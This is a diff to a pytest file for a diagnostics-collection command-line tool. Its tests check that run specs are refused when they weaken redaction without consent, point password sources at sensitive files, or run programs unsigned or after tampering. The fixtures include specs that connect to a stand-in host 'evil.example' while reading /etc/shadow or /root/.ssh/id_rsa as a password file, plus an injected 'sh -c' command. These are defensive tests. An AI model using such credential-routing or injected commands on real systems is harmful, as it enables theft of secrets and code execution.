@@ -105,9 +105,10 @@ def test_allowed_weakening_is_shown_and_recorded(tmp_path: Path) -> None:
     assert "shipped rule secret-keys: disabled" in done.stdout
     out = tmp_path / "out"
     out.mkdir()
-    done = run(
-        ["collect", "--spec", str(spec), "--allow-weaker-redaction", "--yes", "-o", str(out)]
-    )
+    args = ["collect", "--spec", str(spec), "--allow-weaker-redaction", "--yes", "-o", str(out)]
+    unsigned = run(args)  # an unsigned spec that weakens redaction needs a second yes
+    assert unsigned.returncode == 2 and "weaken the redaction rules secret-keys" in unsigned.stderr
+    done = run([*args, "--allow-unsigned"])
     assert done.returncode in (0, 3), done.stderr
     bundles = list(out.iterdir())
     if bundles:  # the leak check may still stop it; if written, the choice is on record
@@ -229,3 +230,167 @@ def test_a_wal_database_gets_no_side_files(tmp_path: Path) -> None:
     assert sorted(p.name for p in tmp_path.iterdir() if p.name != "out") == sorted(
         [*before, "spec.yaml"]
     )
+
+
+# ------------------------------------------------------------ passwords where meant
+
+
+@pytest.mark.parametrize(
+    ("connection", "needle"),
+    [
+        (
+            '{url: "postgresql://jira@evil.example/jira", password_env: KONCIS_DB_PASSWORD}',
+            "KONCIS_DB_PASSWORD holds the password of the application's own database",
+        ),
+        (
+            '{url: "postgresql://jira@evil.example/jira", password_file: /etc/shadow}',
+            "/etc/shadow cannot be a password file",
+        ),
+        (
+            '{url: "postgresql://jira@evil.example/jira", password_file: /root/.ssh/id_rsa}',
+            "/root/.ssh/id_rsa cannot be a password file",
+        ),
+    ],
+)
+def test_a_spec_cannot_route_passwords_elsewhere(
+    tmp_path: Path, connection: str, needle: str
+) -> None:
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(
+        "version: 1\nname: c\nconnections:\n"
+        f"  evil: {connection}\n"
+        "collect:\n  - query: {name: q, database: evil, sql: SELECT 1}\n"
+    )
+    for command in (["plan"], ["collect", "--yes", "-o", str(tmp_path)]):
+        done = run([*command, "--spec", str(spec)])
+        assert done.returncode == 2, done.stderr
+        assert done.stderr.startswith(f"error: {spec}:4:") and needle in done.stderr
+
+
+def test_the_plan_names_remote_hosts_password_sources_and_identity_queries(
+    tmp_path: Path,
+) -> None:
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(
+        "version: 1\nname: c\nconnections:\n"
+        '  report: {url: "postgresql://ro@reports.example:5432/jira", password_env: REPORT_PW}\n'
+        "collect:\n  - query: {name: q, database: report, sql: SELECT 1}\n"
+        "redact:\n  identities:\n"
+        "    - {database: report, sql: 'SELECT user_name, display_name FROM cwd_user'}\n"
+    )
+    done = run(["plan", "--spec", str(spec)])
+    assert done.returncode == 0, done.stderr
+    text = done.stdout
+    assert "reports.example:5432/jira  (a remote host named by the run instructions)" in text
+    assert "password from the environment variable REPORT_PW" in text
+    assert "identity query on report" in text
+    assert "SELECT user_name, display_name FROM cwd_user" in text
+
+
+# --------------------------------------------------------------- signed run instructions
+
+
+def _signed(tmp_path: Path) -> tuple[Path, Path, Path]:
+    """A spec that runs a program, a key pair from `spec keygen`, the spec signed with it."""
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(
+        "version: 1\nname: signed\ncollect:\n  - command: {name: os, argv: [uname, -s]}\n"
+    )
+    key = tmp_path / "support.key"
+    made = run(["spec", "keygen", "-o", str(key), "--comment", "Anna at support"])
+    assert made.returncode == 0, made.stderr
+    assert oct(key.stat().st_mode & 0o777) == "0o600"
+    signed = run(["spec", "sign", str(spec), "--key", str(key)])
+    assert signed.returncode == 0, signed.stderr
+    return spec, key, key.with_name("support.key.pub")
+
+
+def test_a_signed_spec_runs_and_its_signer_is_recorded(tmp_path: Path) -> None:
+    spec, _, public = _signed(tmp_path)
+    planned = run(["plan", "--spec", str(spec), "--trust", str(public)])
+    assert planned.returncode == 0, planned.stderr
+    assert "signed by Anna at support (SHA256:" in planned.stdout
+    out = tmp_path / "out"
+    out.mkdir()
+    done = run(["collect", "--spec", str(spec), "--trust", str(public), "--yes", "-o", str(out)])
+    assert done.returncode == 0, done.stderr
+    (bundle,) = out.iterdir()
+    with zipfile.ZipFile(bundle) as archive:
+        consent = json.loads(
+            next(archive.read(n) for n in archive.namelist() if n.endswith("consent.json"))
+        )
+    assert consent["spec"]["status"] == "signed"
+    assert consent["spec"]["signer"] == "Anna at support"
+    assert consent["spec"]["key_id"].startswith("SHA256:") and consent["spec"]["sha256"]
+
+
+def test_a_changed_spec_or_an_untrusted_key_reads_nothing(tmp_path: Path) -> None:
+    spec, _, public = _signed(tmp_path)
+    other = tmp_path / "other.key"
+    assert run(["spec", "keygen", "-o", str(other)]).returncode == 0
+    untrusted = run(["plan", "--spec", str(spec), "--trust", f"{other}.pub"])
+    assert untrusted.returncode == 2 and "not among the trusted keys" in untrusted.stderr
+    spec.write_text(spec.read_text().replace("uname, -s", "sh, -c, 'touch /tmp/owned'"))
+    changed = run(["collect", "--spec", str(spec), "--trust", str(public), "--yes"])
+    assert changed.returncode == 2
+    assert "the signature does not match" in changed.stderr
+    assert len(changed.stderr.strip().splitlines()) == 1
+
+
+def test_an_unsigned_spec_that_runs_programs_needs_allow_unsigned(tmp_path: Path) -> None:
+    spec, _, _ = _signed(tmp_path)
+    spec.with_name("spec.yaml.sig").unlink()
+    out = tmp_path / "out"
+    out.mkdir()
+    refused = run(["collect", "--spec", str(spec), "--yes", "-o", str(out)])
+    assert refused.returncode == 2 and "not signed and they would run 1 program" in refused.stderr
+    assert list(out.iterdir()) == []
+    planned = run(["plan", "--spec", str(spec)])
+    assert "UNSIGNED" in planned.stdout and "would run 1 program" in planned.stdout
+    allowed = run(["collect", "--spec", str(spec), "--yes", "--allow-unsigned", "-o", str(out)])
+    assert allowed.returncode == 0, allowed.stderr
+
+
+def test_unsigned_specs_that_only_read_and_profiles_need_nothing(tmp_path: Path) -> None:
+    spec = _server(tmp_path, None)
+    out = tmp_path / "out"
+    out.mkdir()
+    done = run(["collect", "--spec", str(spec), "--yes", "-o", str(out)])
+    assert done.returncode == 0, done.stderr
+
+
+@pytest.mark.parametrize("kind", ["another user's", "a link", "world-writable"])
+def test_a_state_folder_that_is_not_ours_is_refused(tmp_path: Path, kind: str) -> None:
+    """Under sudo, HOME may point into another user's folder: a planted pseudonyms.sqlite3 link
+    made root chmod another file, and the other user could read the mapping root wrote."""
+    import os
+
+    if os.geteuid() != 0 and kind == "another user's":
+        pytest.skip("needs root to give the folder to another user")
+    state_home = tmp_path / "state"
+    state_home.mkdir()
+    folder = state_home / "koncis-diag"
+    if kind == "a link":
+        (tmp_path / "elsewhere").mkdir(mode=0o700)
+        folder.symlink_to(tmp_path / "elsewhere")
+    else:
+        folder.mkdir(mode=0o700)
+        if kind == "world-writable":
+            folder.chmod(0o777)
+        else:
+            os.chown(folder, 65534, 65534)
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    (logs / "a.log").write_text("hello from 10.1.2.3\n")
+    env = cli_env(XDG_STATE_HOME=str(state_home))
+    done = subprocess.run(
+        koncis_cmd("collect", "--files", f"{logs}/*", "--no-system", "--yes", "-o", str(tmp_path)),
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=env,
+        stdin=subprocess.DEVNULL,
+    )
+    assert done.returncode == 2, done.stderr
+    assert f"state folder {folder}" in done.stderr and "refused" in done.stderr
+    assert not list(tmp_path.glob("koncis-diag-*"))
